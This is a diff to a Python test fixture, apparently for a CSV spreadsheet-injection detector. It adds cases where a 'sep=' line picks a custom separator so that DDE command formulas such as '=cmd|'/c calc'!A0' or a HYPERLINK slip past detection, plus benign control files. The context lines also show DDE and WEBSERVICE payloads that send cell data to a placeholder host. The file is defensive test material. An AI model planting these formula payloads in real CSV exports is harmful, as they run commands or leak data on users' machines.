@@ -29,6 +29,9 @@ _DANGEROUS: Final = (
     _case("program-without-quotes.csv", "a,b\n=cmd|calc!A1,2\n", "program"),
     _case("program-behind-an-open-quote.csv", f'a,b\n"x,1\n{_EXCEL},2\n', "program"),
     _case("program-with-a-text-before.csv", 'a,b\n"=""x""&cmd|\'/c calc\'!A0",2\n', "program"),
+    _case("program-behind-a-separator-of-its-own.csv", "sep=^\na^=cmd|'/c calc'!A0\n", "program"),
+    _case("program-behind-a-quoted-separator.csv", "\ufeff\"SEP=x\"\r\nax=cmd|'/c calc'!A0\r\n", "program"),
+    _case("link-behind-a-bracket.csv", 'sep=]\na]=HYPERLINK("http://a.example")\n'.encode("utf-16"), "link"),
     _case("dde.csv", 'a,b\n1,"=DDE(""cmd"",""/C calc"",""x"")"\n', "program"),
     _case("dde-semicolons.csv", '=DDE("cmd";"/C calc";"x")\n', "program"),
     _case("webservice.csv", 'a,b\n1,"=WEBSERVICE(""http://a.example/""&A1)"\n', "call"),
@@ -51,6 +54,8 @@ _HONEST: Final = (
     _case("markup.csv", 'a,b\n1,"- one\n- two | three!\n- four"\n'),
     _case("empty-cells.csv", ',,,\n"","",""\n'),
     _case("utf-16.csv", "a,b\n-1,ü\n".encode("utf-16")),
+    _case("separator-told.csv", 'sep=;\na;b\n-1;"=SUM(A1;B1)"\nsep=^;a^=cmd|x\n'),
+    _case("separator-of-its-own.csv", "sep=^\na^b|c\n-1^=SUM(A1,B1)\n"),
     _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
 )
 CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
